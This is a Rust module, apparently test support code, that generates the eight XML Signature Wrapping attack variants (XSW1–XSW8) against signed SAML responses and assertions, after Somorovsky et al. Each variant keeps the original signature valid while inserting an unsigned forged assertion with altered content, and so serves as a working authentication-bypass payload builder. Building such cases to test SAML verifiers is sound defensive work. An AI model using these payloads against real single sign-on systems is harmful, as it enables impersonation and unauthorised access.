//! Signature wrapping of responses (Somorovsky et al., 2012): a signed part that stays valid, beside an unsigned one that
//! is to be read. XSW1 and 2 wrap a signed response, XSW3 to 8 a signed assertion.

/// The first element of that qualified name, with its content.
fn element<'a>(xml: &'a str, name: &str) -> &'a str {
    let begin = xml.find(&format!("<{name} ")).unwrap();
    let end = format!("</{name}>");
    let length = xml[begin..].find(&end).unwrap() + end.len();
    &xml[begin..begin + length]
}

fn id(element: &str) -> &str {
    let (_, rest) = element.split_once(" ID=\"").unwrap();
    rest.split('"').next().unwrap()
}

/// The assertion as the attacker wants it read: without signature, under another id.
fn evil_assertion(assertion: &str, from: &str, to: &str) -> String {
    let unsigned = assertion.replace(element(assertion, "ds:Signature"), "");
    unsigned
        .replace(from, to)
        .replacen(id(assertion), "_evil", 1)
}

/// The variant of a response in which `from` is to be read as `to`. Each kind of the response is signed as it needs.
pub(super) fn wrapped(xml: &str, variant: u8, from: &str, to: &str) -> String {
    let signature = element(xml, "ds:Signature");
    if variant <= 2 {
        let original = xml.replacen(signature, "", 1);
        let evil = original.replace(from, to).replacen(id(xml), "_evil", 1);
        let inner = id(element(&original, "saml:Assertion"));
        let evil = evil.replacen(inner, "_inner", 1);
        let moved = if variant == 1 {
            signature.replace("</ds:Signature>", &format!("{original}</ds:Signature>"))
        } else {
            format!("{original}{signature}")
        };
        return behind_issuer(&evil, &moved);
    }
    let assertion = element(xml, "saml:Assertion");
    let unsigned = assertion.replace(signature, "");
    let evil = evil_assertion(assertion, from, to);
    let with = |evil: &str, inside: &str| behind_issuer(evil, inside);
    let object = |content: &str| {
        let object = format!("<ds:Object>{content}</ds:Object></ds:Signature>");
        signature.replace("</ds:Signature>", &object)
    };
    let replacement = match variant {
        3 => format!("{evil}{assertion}"),
        4 => evil.replace(
            "</saml:Assertion>",
            &format!("{assertion}</saml:Assertion>"),
        ),
        5 => format!("{}{unsigned}", with(&evil, signature)),
        6 => {
            let inner = signature.replace("</ds:Signature>", &format!("{unsigned}</ds:Signature>"));
            with(&evil, &inner)
        }
        7 => {
            let same_id = evil.replacen("_evil", id(assertion), 1);
            format!("<samlp:Extensions>{same_id}</samlp:Extensions>{assertion}")
        }
        8 => {
            let same_id = evil.replacen("_evil", id(assertion), 1);
            with(&same_id, &object(&unsigned))
        }
        _ => panic!("there are eight"),
    };
    xml.replace(assertion, &replacement)
}

/// The element with something put behind its issuer.
fn behind_issuer(element: &str, what: &str) -> String {
    element.replacen("</saml:Issuer>", &format!("</saml:Issuer>{what}"), 1)
}
